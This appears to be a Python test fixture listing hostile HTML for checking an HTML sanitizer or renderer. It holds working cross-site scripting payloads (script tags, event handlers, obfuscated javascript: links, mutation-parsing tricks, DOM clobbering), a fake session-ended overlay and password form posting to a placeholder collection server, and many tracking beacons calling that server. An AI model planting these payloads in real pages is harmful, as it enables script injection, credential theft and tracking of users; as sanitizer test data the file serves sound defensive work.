"""HTML as people send it who mean harm. ``{out}`` is a server that counts who comes, ``{mark}`` a script that leaves a mark."""

MARK = "try{{top.evil=1}}catch(e){{}};try{{parent.evil=1}}catch(e){{}};try{{alert(1)}}catch(e){{}};new Image().src='{out}/ran'"

HOSTILE = {
    "script": "<script>{mark}</script><script src='{out}/a.js'></script><script type=module>import '{out}/b.js'</script>",
    "handlers": '<img src=x onerror="{mark}"><body onload="{mark}"><p onmouseover="{mark}" onclick="{mark}">p</p>',
    "focus": '<input autofocus onfocus="{mark}"><details open ontoggle="{mark}">d</details>',
    "links": "<a href=\"javascript:{mark}\">a</a><a href='JaVa&#x0A;ScRiPt&colon;{mark}'>b</a><a href='vbscript:{mark}'>c</a>",
    "data links": "<a href='data:text/html,<script>{mark}</script>'>d</a><a href='/settings'>e</a>",
    "css": "<style>@import '{out}/a.css';body{{background:url({out}/a.png)}}"
    "@font-face{{font-family:x;src:url({out}/a.woff)}}</style>"
    "<p style='font-family:x'>x</p>",
    "style attributes": '<p style="background:url(\'{out}/b.png\')">x</p><p style="background-image:\\75rl({out}/c.png)">y</p>'
    '<li style="list-style:url({out}/d.png)">z</li><p style="content:image-set(\'{out}/e.png\' 1x)">w</p>',
    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:#f00;width:200vw;height:200vh;margin:-999px'>"
    "Your session ended. <a href='{out}/sign-in'>Sign in</a></div>",
    "form": "<form action='{out}/form' method=post><input name=p type=password><button>Send</button></form>"
    "<input type=image src='{out}/f.png'><button formaction='{out}/g'>x</button>",
    "refresh": "<meta http-equiv=refresh content='0;url={out}/refresh'><meta http-equiv=Set-Cookie content='a=b'>",
    "svg": "<svg onload=\"{mark}\"><script>{mark}</script><image href='{out}/h.png' /><use href='{out}/i.svg#x' />"
    "<animate attributeName=href values='javascript:{mark}' /></svg>",
    "math": '<math><mtext></form><form><mglyph><style></math><img src onerror="{mark}"></style>',
    "frames": "<iframe src='{out}/frame'></iframe><iframe srcdoc=\"<script>{mark}</script>\"></iframe>"
    "<object data='{out}/object'></object><embed src='{out}/embed'><frameset><frame src='{out}/f2'></frameset>",
    "pixels": "<img src='{out}/pixel.png?id=1' width=1 height=1><img src='//{host}/pixel2.png'>",
    "srcset": "<img srcset='{out}/s1.png 1x, {out}/s2.png 2x'><picture><source srcset='{out}/s3.png'><img alt=x></picture>",
    "old attributes": "<body background='{out}/bg.png'><table background='{out}/bg2.png'>"
    "<tr><td background='{out}/bg3.png'>x</table>"
    "<img lowsrc='{out}/low.png' dynsrc='{out}/dyn.avi' longdesc='{out}/long'><bgsound src='{out}/s.wav'>",
    "media": "<video src='{out}/v.mp4' poster='{out}/v.png' autoplay></video><audio src='{out}/a.mp3' autoplay></audio>"
    "<track src='{out}/t.vtt'>",
    "head": "<base href='{out}/' target=_top><link rel=stylesheet href='{out}/l.css'><link rel=preload as=image href='{out}/l.png'>"
    "<link rel=prefetch href='{out}/l2'>"
    "<link rel=icon href='{out}/l.ico'><img src='base.png'>",
    "broken": '<img src="x" alt="</title><script>{mark}</script>"><noscript><p title="</noscript><img src=x onerror=\'{mark}\'>">',
    "comments": "<!--[if gte mso 9]><script>{mark}</script><![endif]--><!--><script>{mark}</script>-->"
    "<![CDATA[<script>{mark}</script>]]>",
    "names": "<a id=top name=parent>x</a><form id=contentDocument></form><img name=body><a href='#x' target=_top>t</a>",
}


def filled(html: str, out: str) -> str:
    """It, meant for this server."""
    mark = MARK.format(out=out)
    return html.format(out=out, mark=mark, host=out.partition("//")[2])
